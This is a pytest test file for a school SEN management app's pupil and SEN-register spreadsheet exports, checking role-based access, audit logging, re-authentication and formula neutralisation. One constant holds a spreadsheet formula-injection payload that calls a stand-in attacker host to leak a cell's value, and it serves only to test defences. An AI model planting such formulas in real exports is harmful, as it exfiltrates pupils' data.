"""Pupils as spreadsheets: the list as each person sees it, and the whole SEN register."""

import csv
import datetime as dt
import io
from urllib.parse import quote

import openpyxl
import pytest
from allauth.account.internal.flows.login import AUTHENTICATION_METHODS_SESSION_KEY
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils.html import escape

from senco import access
from senco.audit.models import AuditEntry, AuditPupil
from senco.pupils import census
from senco.pupils.models import Pupil
from tests import targets
from tests.accounts.conftest import sign_in
from tests.conftest import PASSWORD

pytestmark = pytest.mark.django_db

DETAILS = [
    "UPN", "Legal first name", "Legal last name", "Preferred name", "Date of birth",
    "Year group", "Class", "SEN status code", "SEN status",
]  # fmt: skip
LIST_HEADINGS = [*DETAILS, "Primary need code", "Primary need"]
REGISTER_HEADINGS = [
    *DETAILS, "SEN status since", "Primary need code", "Primary need", "Secondary need code",
    "Secondary need", "Further needs",
]  # fmt: skip
FLAGS = ["Pupil premium", "Free school meals", "EAL", "Looked after"]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def signed_in(username: str) -> Client:
    """Signed in with a password just now: re-authentication is not asked for ten minutes."""
    client = Client()
    assert sign_in(client, username).status_code == 302
    return client


def signed_in_long_ago(username: str) -> Client:
    client = signed_in(username)
    session = client.session
    records = session[AUTHENTICATION_METHODS_SESSION_KEY]
    for record in records:
        record["at"] -= 3600
    session[AUTHENTICATION_METHODS_SESSION_KEY] = records
    session.save()
    return client


def rows_of_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def dicts_of_csv(response) -> list[dict[str, str]]:
    headings, *rows = rows_of_csv(response)
    return [dict(zip(headings, row, strict=True)) for row in rows]


def sheet_of(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == XLSX
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def on_roll_upns(username: str) -> set[str]:
    pupils = targets.visible(username, targets.home_school()).on_roll()
    return set(pupils.values_list("upn", flat=True))


def test_a_teachers_export_holds_only_the_pupils_they_teach_and_no_flags(client_for):
    response = client_for("teacher").get(reverse("pupils:export_csv"))
    headings, *rows = rows_of_csv(response)
    assert headings == LIST_HEADINGS
    upns = {row[0] for row in rows}
    assert upns == on_roll_upns("teacher") and upns
    assert targets.parents_child().upn not in upns
    assert len(upns) < Pupil.objects.filter(school=targets.home_school()).on_roll().count()


def test_a_parents_export_holds_only_their_children_and_no_flags(client_for):
    response = client_for("parent").get(reverse("pupils:export_xlsx"))
    sheet = sheet_of(response)
    assert [c.value for c in sheet[1]] == LIST_HEADINGS
    upns = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert upns == on_roll_upns("parent") and targets.parents_child().upn in upns
    assert targets.taught_pupil().upn not in upns


def test_the_senco_exports_every_pupil_on_roll_with_the_flags(client_for):
    rows = dicts_of_csv(client_for("senco").get(reverse("pupils:export_csv")))
    assert list(rows[0]) == LIST_HEADINGS + FLAGS
    assert {r["UPN"] for r in rows} == on_roll_upns("senco")
    pupil = targets.taught_pupil()
    row = next(r for r in rows if r["UPN"] == pupil.upn)
    assert row["Date of birth"] == pupil.date_of_birth.isoformat()
    assert row["SEN status code"] == pupil.sen_provision
    assert row["Primary need"] == pupil.primary_need_label
    assert row["Pupil premium"] in ("Yes", "No")


def test_a_pupil_who_has_left_is_not_exported(client_for):
    pupil = targets.taught_pupil()
    Pupil.objects.filter(pk=pupil.pk).update(left_on=access.today() - dt.timedelta(days=1))
    rows = dicts_of_csv(client_for("senco").get(reverse("pupils:export_csv")))
    assert pupil.upn not in {r["UPN"] for r in rows}


def test_the_export_honours_the_search_and_names_no_pupil_in_its_filename(client_for):
    pupil = targets.taught_pupil()
    response = client_for("senco").get(reverse("pupils:export_csv"), {"q": pupil.legal_last_name})
    rows = dicts_of_csv(response)
    assert rows and all(
        pupil.legal_last_name.lower() in (r["Legal last name"] + r["Preferred name"]).lower()
        for r in rows
    )
    disposition = response["Content-Disposition"]
    today = access.today().isoformat()
    assert disposition == f'attachment; filename="pupils-990000-{today}.csv"'
    assert pupil.legal_last_name not in disposition
    assert "no-store" in response["Cache-Control"]


def test_the_xlsx_export_is_a_named_attachment_with_a_formula_free_sheet(client_for):
    response = client_for("senco").get(reverse("pupils:export_xlsx"))
    today = access.today().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="pupils-990000-{today}.xlsx"'
    sheet = sheet_of(response)
    assert sheet.title == "Pupils" and sheet.freeze_panes == "A2"
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c for c in cells if c.data_type == "f"] == []
    assert any(c.is_date for c in cells)


def test_a_name_written_as_a_formula_comes_out_inert(client_for):
    pupil = targets.taught_pupil()
    Pupil.objects.filter(pk=pupil.pk).update(legal_last_name=EVIL, preferred_first_name="+Ann")
    senco = client_for("senco")
    rows = dicts_of_csv(senco.get(reverse("pupils:export_csv"), {"q": pupil.upn}))
    assert rows[0]["Legal last name"] == "'" + EVIL
    assert rows[0]["Preferred name"] == "'+Ann " + EVIL
    sheet = sheet_of(senco.get(reverse("pupils:export_xlsx"), {"q": pupil.upn}))
    cell = sheet.cell(row=2, column=LIST_HEADINGS.index("Legal last name") + 1)
    assert (cell.value, cell.data_type) == (EVIL, "s")
    assert [c for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []


def test_each_export_is_one_audit_entry_naming_every_exported_pupil(client_for, persona):
    response = client_for("senco").get(reverse("pupils:export_csv"))
    upns = [r["UPN"] for r in dicts_of_csv(response)]
    entry = AuditEntry.objects.filter(action="pupil.exported").latest("id")
    assert entry.actor_id == persona("senco").pk
    assert entry.school_id == targets.home_school().pk
    by_upn = dict(Pupil.objects.filter(school=targets.home_school()).values_list("upn", "pk"))
    assert entry.pupil_ids == [by_upn[u] for u in upns]
    named = AuditPupil.objects.filter(entry=entry).values_list("pupil_id", flat=True)
    assert sorted(named) == sorted(by_upn[u] for u in upns)


def test_the_register_asks_a_senco_signed_in_long_ago_to_sign_in_again(client_for):
    before = AuditEntry.objects.filter(action="pupil.exported").count()
    for client in (signed_in_long_ago("senco"), client_for("senco")):
        response = client.get(reverse("pupils:register_xlsx"))
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/reauthenticate/")
    assert AuditEntry.objects.filter(action="pupil.exported").count() == before


def test_after_the_password_the_register_download_goes_ahead(client_for):
    client = signed_in_long_ago("senco")
    asked = client.get(reverse("pupils:register_csv"))
    replayed = client.post(asked["Location"], {"password": PASSWORD}, follow=True)
    assert rows_of_csv(replayed)[0] == REGISTER_HEADINGS + FLAGS


def test_a_teacher_may_not_export_the_register(client_for):
    for name in ("pupils:register_csv", "pupils:register_xlsx"):
        response = client_for("teacher").get(reverse(name))
        assert response.status_code == 403
    refusal = AuditEntry.objects.filter(kind="refused").latest("id")
    assert refusal.object_label == "register.export"


def test_the_register_holds_everyone_on_it_with_their_ranked_needs(today):
    response = signed_in("senco").get(reverse("pupils:register_csv"))
    today_text = access.today().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="sen-register-990000-{today_text}.csv"'
    )
    rows = dicts_of_csv(response)
    on_register = (
        targets.visible("senco", targets.home_school())
        .on_roll()
        .filter(sen_provision__in=census.REGISTER_CODES)
    )
    assert {r["UPN"] for r in rows} == set(on_register.values_list("upn", flat=True))
    assert {r["SEN status code"] for r in rows} <= set(census.REGISTER_CODES)
    for pupil in on_register:
        row = next(r for r in rows if r["UPN"] == pupil.upn)
        needs = list(pupil.sen_needs.filter(ends__isnull=True).order_by("rank"))
        assert row["Primary need code"] == (needs[0].need if needs else "")
        assert row["Secondary need code"] == (needs[1].need if len(needs) > 1 else "")
        status = pupil.sen_statuses.filter(ends__isnull=True).first()
        assert row["SEN status since"] == (status.starts.isoformat() if status else "")
    entry = AuditEntry.objects.filter(action="pupil.exported").latest("id")
    assert len(entry.pupil_ids) == len(rows)


def test_the_register_xlsx_opens_with_its_headings(today):
    sheet = sheet_of(signed_in("head").get(reverse("pupils:register_xlsx")))
    assert sheet.title == "SEN register"
    assert [c.value for c in sheet[1]] == REGISTER_HEADINGS + FLAGS


def test_a_governor_exports_no_named_pupil(client_for):
    assert rows_of_csv(client_for("governor").get(reverse("pupils:export_csv"))) == [LIST_HEADINGS]


def test_only_those_who_may_export_the_register_see_its_link(client_for):
    assert b"Download the SEN register (XLSX)" in client_for("senco").get("/").content
    for who in ("teacher", "parent", "governor"):
        assert b"Download the SEN register" not in client_for(who).get("/").content


def test_the_pupils_page_links_to_the_downloads_with_its_search(client_for):
    pupil = targets.taught_pupil()
    query = f"{pupil.legal_first_name} {pupil.legal_last_name}"
    page = client_for("senco").get("/pupils/", {"q": query}).content.decode()
    for name in ("export.xlsx", "export.csv"):
        assert f'href="/pupils/{name}?q={escape(quote(query))}"' in page
    assert "Download as spreadsheet (XLSX)" in page
    nothing = client_for("senco").get("/pupils/", {"q": "Zzzz Nobody"}).content.decode()
    assert "Download as" not in nothing


def keep_on_roll(count: int) -> None:
    """Only `count` pupils of the home school stay on roll, all on the SEN register."""
    pupils = Pupil.objects.filter(school=targets.home_school())
    pupils.update(left_on=access.today() - dt.timedelta(days=1))
    kept = list(pupils.order_by("pk").values_list("pk", flat=True)[:count])
    Pupil.objects.filter(pk__in=kept).update(left_on=None, sen_provision="K", primary_need="MLD")


def queries(client, url: str) -> int:
    client.get(url)  # the first request of a session also refreshes its expiry
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url).status_code == 200
    return len(captured)


@pytest.mark.parametrize("name", ["pupils:export_csv", "pupils:export_xlsx", "pupils:register_csv"])
def test_an_export_costs_the_same_queries_at_2_and_20_pupils(name):
    client = signed_in("senco")
    keep_on_roll(2)
    small = queries(client, reverse(name))
    keep_on_roll(20)
    assert queries(client, reverse(name)) == small
    assert len(AuditEntry.objects.filter(action="pupil.exported").latest("id").pupil_ids) == 20
